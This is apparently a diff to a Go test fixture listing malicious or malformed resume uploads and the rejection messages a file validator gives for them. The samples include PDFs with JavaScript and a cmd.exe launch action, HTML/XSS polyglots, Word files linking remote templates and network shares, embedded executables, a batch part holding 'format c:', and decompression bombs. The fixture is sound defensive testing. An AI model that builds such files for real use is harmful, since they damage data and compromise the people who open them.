@@ -104,18 +104,39 @@ func msgDOCX(why string) string {
 	return "The resume is not a valid Word document (" + why + "). Please save it again from Word as .docx, or as PDF."
 }
 
+func msgNotOffice(target string) string {
+	return fmt.Sprintf("The resume is a Word document that links to a file that is not part of a Word document (%q), which we cannot accept. Please remove the object or link, or save the document as PDF, and upload it again.", target)
+}
+
 func msgDOC(why string) string {
 	return "The resume is not a valid Word document (" + why + "). Please save it again from Word, or as PDF."
 }
 
 const (
-	msgFetches   = "The resume is a Word document that fetches a template or an object from the internet when it is opened, which we cannot accept. Please save it as PDF and upload it again."
+	msgFetches   = "The resume is a Word document that fetches a template, a picture or an object from the internet or a network share when it is opened, which we cannot accept. Please save it as PDF and upload it again."
+	msgProgram   = "The resume is a Word document with a program or script inside it, which we cannot accept. Please remove the embedded object, or save the document as PDF, and upload it again."
 	msgMacros    = "The resume is a Word document with macros, which we cannot accept. Save it as .docx without macros, or as PDF."
 	msgEncrypted = "The resume is protected by a password, so we could not read it. Please remove the password, or save it as PDF, and upload it again."
 )
 
 func msgTooLargeImage(part string, w, h, megapixels int) string {
 	return fmt.Sprintf("%s is too large an image (%d × %d pixels). We accept at most %d megapixels and 12000 pixels on a side: please upload a smaller photo or scan, or a PDF.", the(part), w, h, megapixels)
+}
+
+func msgPDF(part, msg string) string {
+	return the(part) + " " + msg + " Save it again as a plain PDF (for example with Print to PDF) and upload that."
+}
+
+const (
+	msgNoXref        = "is a damaged PDF: its table of contents (the cross-reference table) is missing."
+	msgPDFScript     = "is a PDF with scripts or actions that start programs, which we cannot accept."
+	msgPDFEmbedded   = "is a PDF with files embedded in it (attachments), which we cannot accept."
+	msgPDFCompressed = "is a PDF compressed in a way we cannot check."
+	msgPDFHTML       = "is a PDF with a web page (HTML) hidden in it, which we cannot accept."
+)
+
+func msgBomb(part string, w, h, kb int) string {
+	return fmt.Sprintf("%s is an image of %d × %d pixels packed into only %d KB, the way a decompression bomb is made, so we did not open it. Please upload an ordinary photo or scan, or a PDF.", the(part), w, h, kb)
 }
 
 func msgDamagedImage(part, format string) string {
@@ -176,8 +197,30 @@ var badFiles = sync.OnceValue(func() []BadFile {
 		}
 	}
 	truncPDF := pdf[:len(pdf)-40]
+	// withCatalog adds entries to GoodPDF's catalog and objects after its
+	// five (numbered from 6).
+	withCatalog := func(entries string, objs ...string) []byte {
+		o := PDFObjects()
+		o[0] = strings.Replace(o[0], "/Pages 2 0 R", "/Pages 2 0 R "+entries, 1)
+		return PDF("", append(o, objs...)...)
+	}
+	noStartxref := pdf[:bytes.LastIndex(pdf, []byte("startxref"))]
+	noStartxref = append(bytes.Clone(noStartxref), "%%EOF\n"...)
+	noXref := bytes.Replace(pdf, []byte("xref\n0 6\n"), []byte("\n"), 1)
+	objStmBomb := PDFWithObjStm("", "<< /Title ("+strings.Repeat(" ", 2<<20)+") >>")
+	damagedObjStm := PDFWithObjStm("", "<< /Title (a title long enough to be compressed in a few blocks of data) >>")
+	if i := bytes.Index(damagedObjStm, []byte("/ObjStm")); i > 0 {
+		// The deflate data after the zlib header of the object stream.
+		i += bytes.Index(damagedObjStm[i:], []byte("stream\n")) + len("stream\n") + 2
+		for k := i; k < i+20; k++ {
+			damagedObjStm[k] ^= 0x5A
+		}
+	}
+	encryptedObjStm := bytes.Replace(PDFWithObjStm("", "<< >>"), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Encrypt 9 0 R"), 1)
+	endless := bytes.Replace(pdf, []byte("\nendstream"), []byte("\nendstrem"), 1)
 	junkPDF := append(bytes.Repeat([]byte("x"), 1100), pdf...)
 	truncPNG := png[:len(png)/2]
+	zeros16 := PNG16Zeros(2100, 2100)
 	truncJPEG := jpg[:len(jpg)/2]
 
 	macroOLE := OLE(OLEEntry{Name: "WordDocument", Data: WordStream(0)}, OLEEntry{Name: "Macros", Storage: true})
@@ -250,6 +293,50 @@ var badFiles = sync.OnceValue(func() []BadFile {
 		// PDFs.
 		{"cv.pdf", resume, truncPDF, "truncated PDF (no %%EOF)",
 			"The resume looks like an incomplete PDF: its end is missing. Please save or download it again and upload the whole file."},
+		{"cv.pdf", resume, []byte("%PDF-1.4\n%%EOF\n"), "15 bytes: a PDF header and an end, nothing between", msgMismatch(resume, "a PDF", ".pdf")},
+		{"cv.pdf", resume, noStartxref, "objects without startxref", msgMismatch(resume, "a PDF", ".pdf")},
+		{"cv.pdf", resume, noXref, "startxref pointing at no cross-reference table or stream", msgPDF(resume, msgNoXref)},
+		{"cv.pdf", resume, withCatalog("/Names << /JavaScript 6 0 R >>", "<< /Names [(init) 7 0 R] >>", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+			"document-level JavaScript", msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, withCatalog("/OpenAction 6 0 R", "<< /Type /Action /S /JavaScript /JS 7 0 R >>", PDFStream("", "app.launchURL('http://203.0.113.9/');")),
+			"/OpenAction running JavaScript", msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, withCatalog("/OpenAction << /S /Java#53cript /J#53 (this.exportDataObject\\(\\)) >>"),
+			"/OpenAction with #xx escapes: /Java#53cript", msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, withCatalog("/OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>"), "/OpenAction launching cmd.exe, its name all escaped",
+			msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, withCatalog("/AA << /WC << /JS (app.alert\\(1\\)) >> >>"), "/AA with a bare /JS entry", msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, withCatalog("/Names << /EmbeddedFiles 6 0 R >>", "<< /Names [(setup.exe) 7 0 R] >>",
+			"<< /Type /Filespec /F (setup.exe) /EF << /F 8 0 R >> >>", PDFStream("/Type /EmbeddedFile", "MZ\x90\x00")),
+			"embedded file (a program)", msgPDF(resume, msgPDFEmbedded)},
+		{"cv.pdf", resume, withCatalog("", "<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) >> >>"), "file attachment annotation",
+			msgPDF(resume, msgPDFEmbedded)},
+		{"cv.pdf", resume, withCatalog("", "<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"), "rich media (Flash) annotation",
+			msgPDF(resume, "is a PDF with embedded media (video, sound or Flash), which we cannot accept.")},
+		{"cv.pdf", resume, withCatalog("/AcroForm << /Fields [] /XFA 6 0 R >>", PDFStream("", "<xdp:xdp/>")), "XFA form",
+			msgPDF(resume, "is an interactive PDF form (XFA), which we cannot accept.")},
+		{"cv.pdf", resume, PDFWithObjStm("", "<< /JavaScript 9 0 R >>", "<< /Names [(x) 10 0 R] >>", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+			"JavaScript hidden in a compressed object stream", msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, PDFWithObjStm("", "<< /EmbeddedFiles 9 0 R >>", "<< /Names [] >>"),
+			"embedded files named in a compressed object stream", msgPDF(resume, msgPDFEmbedded)},
+		{"cv.pdf", resume, withCatalog("", PDFStream("", "q 1 0 0 1 0 0 cm Q\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj")),
+			"JavaScript action hidden in a content stream's data", msgPDF(resume, msgPDFScript)},
+		{"cv.pdf", resume, objStmBomb, "object stream inflating to 2 MB from a 5 KB file",
+			msgPDF(resume, "is a PDF whose compressed parts expand too much to be checked, the way a zip bomb does.")},
+		{"cv.pdf", resume, PDFWithObjStm("/DecodeParms << /Predictor 12 /Columns 4 >> ", "<< >>"), "object stream with a PNG predictor",
+			msgPDF(resume, msgPDFCompressed)},
+		{"cv.pdf", resume, bytes.Replace(PDFWithObjStm("", "<< >>"), []byte("/Filter /FlateDecode"), []byte("/Filter /LZWDecode  "), 1),
+			"object stream compressed with LZW", msgPDF(resume, msgPDFCompressed)},
+		{"cv.pdf", resume, damagedObjStm, "object stream whose deflate data is damaged",
+			msgPDF(resume, "is a damaged PDF: one of its compressed parts cannot be read.")},
+		{"cv.pdf", resume, encryptedObjStm, "encrypted PDF with an object stream",
+			"The resume is a protected (encrypted) PDF whose contents we cannot check. Remove the protection, or save it again with Print to PDF, and upload that."},
+		{"cv.pdf", resume, endless, "stream without endstream", msgPDF(resume, "is a damaged PDF: one of its parts has no end.")},
+		{"cv.pdf", resume, bytes.Replace(pdf, []byte("%\xE2\xE3\xCF\xD3\n"), []byte("%<html><body><script>alert(document.domain)</script></body></html>\n"), 1),
+			"HTML polyglot in a comment", msgPDF(resume, msgPDFHTML)},
+		{"cv.pdf", resume, append(bytes.Clone(pdf), "<!DOCTYPE html><html><script>alert(1)</script></html>\n%%EOF\n"...),
+			"HTML polyglot after %%EOF", msgPDF(resume, msgPDFHTML)},
+		{"cv.pdf", resume, append([]byte("GIF89a<svg onload=alert(1)>\n"), pdf...), "HTML before the PDF header", msgPDF(resume, msgPDFHTML)},
+		{"cv.pdf", resume, withCatalog("/Title (<script>alert\\(1\\)</script>)"), "HTML in a string of the catalog", msgPDF(resume, msgPDFHTML)},
 		// DOCX.
 		{"cv.docx", resume, without("word/document.xml"), "zip without word/document.xml", msgMismatch(resume, "a Word document", ".docx")},
 		{"cv.docx", resume, without("[Content_Types].xml"), "zip without [Content_Types].xml", msgMismatch(resume, "a Word document", ".docx")},
@@ -287,6 +374,34 @@ var badFiles = sync.OnceValue(func() []BadFile {
 		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
 			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "\\\\203.0.113.9\\share\\x.xls", true))}),
 			"object linked to a network share", msgFetches},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/settings.xml.rels", Data: []byte(RelsWith(
+			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "file://203.0.113.9/share/t.dotm", true))}),
+			"template on another machine through file://host", msgFetches},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
+			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "https://203.0.113.9/pixel.png", true))}),
+			"picture fetched from the internet (a tracking pixel)", msgFetches},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/oleObject1.bin", Data: exe}), "Windows program (MZ) as an embedded object", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/oleObject3.bin", Data: OLE(OLEEntry{Name: "CONTENTS", Data: append(bytes.Clone(exe), make([]byte, 4096)...)})}),
+			"Windows program in a stream of an embedded OLE object", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/media/image1.png", Data: elf}), "Linux program (ELF) named as a picture", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/data.dat", Data: append([]byte{0xCF, 0xFA, 0xED, 0xFE}, make([]byte, 60)...)}),
+			"macOS program (Mach-O, little-endian 64-bit)", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "customXml/item9.xml", Data: append([]byte{0xFE, 0xED, 0xFA, 0xCE}, make([]byte, 60)...)}),
+			"macOS program (Mach-O, big-endian 32-bit) named .xml", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "docProps/thumbnail.jpeg", Data: append([]byte{0xCA, 0xFE, 0xBA, 0xBE}, make([]byte, 60)...), Store: true}),
+			"macOS universal program stored uncompressed", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/setup.exe", Data: []byte("not really a program")}), "part named .exe", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/run.bat", Data: []byte("@echo off\r\nformat c:\r\n")}), "batch script part", msgProgram},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
+			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/package", "embeddings/tools.zip", false))},
+			ZipEntry{Name: "word/embeddings/tools.zip", Data: GoodDOCX()}),
+			"package relationship to a zip archive", msgNotOffice("word/embeddings/tools.zip")},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte(RelsWith(
+			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "../tools/x%2Eps1", false))}),
+			"object relationship to a PowerShell script outside word/", msgNotOffice("tools/x.ps1")},
+		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/footer1.xml.rels", Data: []byte(RelsWith(
+			"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "/word/start.js", false))}),
+			"relationship to a script by an absolute part name", msgNotOffice("word/start.js")},
 		{"cv.docx", resume, docx(ZipEntry{Name: "word/_rels/document.xml.rels", Data: []byte("not xml <")}), "relationships that are not XML",
 			msgDOCX(`a list of relationships is damaged: "word/_rels/document.xml.rels"`)},
 		{"cv.docx", resume, docx(ZipEntry{Name: "word/embeddings/Book1.xlsm", Data: []byte("PK")}), "embedded macro workbook", msgMacros},
@@ -312,15 +427,24 @@ var badFiles = sync.OnceValue(func() []BadFile {
 		// Images.
 		{"cert.png", cert, truncPNG, "truncated PNG", msgDamagedImage(cert, "PNG image")},
 		{"id.jpg", idDoc, truncJPEG, "truncated JPEG", msgDamagedImage(idDoc, "JPEG image")},
-		{"id.png", idDoc, pngWithSize(50000, 50000), "PNG pixel bomb: 50000 × 50000 in the header", msgTooLargeImage(idDoc, 50000, 50000, 40)},
-		{"id.png", idDoc, pngWithSize(8000, 6000), "PNG of 48 megapixels", msgTooLargeImage(idDoc, 8000, 6000, 40)},
-		{"cert.png", cert, pngWithSize(12001, 10), "PNG wider than 12000 pixels", msgTooLargeImage(cert, 12001, 10, 40)},
+		{"id.png", idDoc, pngWithSize(50000, 50000), "PNG pixel bomb: 50000 × 50000 in the header", msgTooLargeImage(idDoc, 50000, 50000, 24)},
+		{"id.png", idDoc, pngWithSize(8000, 6000), "PNG of 48 megapixels", msgTooLargeImage(idDoc, 8000, 6000, 24)},
+		{"cert.png", cert, pngWithSize(12001, 10), "PNG wider than 12000 pixels", msgTooLargeImage(cert, 12001, 10, 24)},
 		{"id.jpg", idDoc, jpegWithSize(5000, 4000, true), "progressive JPEG of 20 megapixels (its decoder needs 15 bytes a pixel)",
 			msgTooLargeImage(idDoc, 5000, 4000, 17)},
-		{"id.jpg", idDoc, jpegWithSize(5000, 4000, false), "baseline JPEG of 20 megapixels without its pixels: within the bounds, then damaged",
+		{"id.jpg", idDoc, jpegWithSize(3000, 2000, false), "baseline JPEG of 6 megapixels without its pixels: within the bounds, then damaged",
 			msgDamagedImage(idDoc, "JPEG image")},
-		{"id.png", idDoc, pngWithDepth16(6000, 6000), "16-bit PNG of 36 megapixels (8 bytes a pixel)", msgTooLargeImage(idDoc, 6000, 6000, 33)},
-		{"id.jpg", idDoc, jpegWithSize(65000, 65000, false), "JPEG pixel bomb: 65000 × 65000 in the header", msgTooLargeImage(idDoc, 65000, 65000, 40)},
+		{"id.jpg", idDoc, jpegWithSize(5000, 4000, false), "baseline JPEG of 20 megapixels (80 MB decoded) in 1 KB: a decompression bomb",
+			msgBomb(idDoc, 5000, 4000, 1)},
+		{"id.png", idDoc, pngWithDepth16(6000, 6000), "16-bit PNG of 36 megapixels (8 bytes a pixel)", msgTooLargeImage(idDoc, 6000, 6000, 24)},
+		{"cert.png", cert, pngWithDepth16(5600, 5600), "16-bit PNG of 5600 × 5600 pixels (31 megapixels, 251 MB decoded) as a certificate",
+			msgTooLargeImage(cert, 5600, 5600, 24)},
+		{"id.jpg", idDoc, jpegWithSize(6000, 4500, false), "JPEG of 27 megapixels as an ID scan", msgTooLargeImage(idDoc, 6000, 4500, 24)},
+		{"cert.png", cert, pngWithDepth16(2100, 2100), "16-bit PNG of 2100 × 2100 pixels (35 MB decoded) in a few hundred bytes: a decompression bomb",
+			msgBomb(cert, 2100, 2100, 1)},
+		{"cert.png", cert, zeros16, "16-bit PNG of 2100 × 2100 zeros, deflated 1000 times: a decompression bomb",
+			msgBomb(cert, 2100, 2100, len(zeros16)>>10)},
+		{"id.jpg", idDoc, jpegWithSize(65000, 65000, false), "JPEG pixel bomb: 65000 × 65000 in the header", msgTooLargeImage(idDoc, 65000, 65000, 24)},
 	}
 	files := make([]BadFile, len(entries))
 	for i, e := range entries {
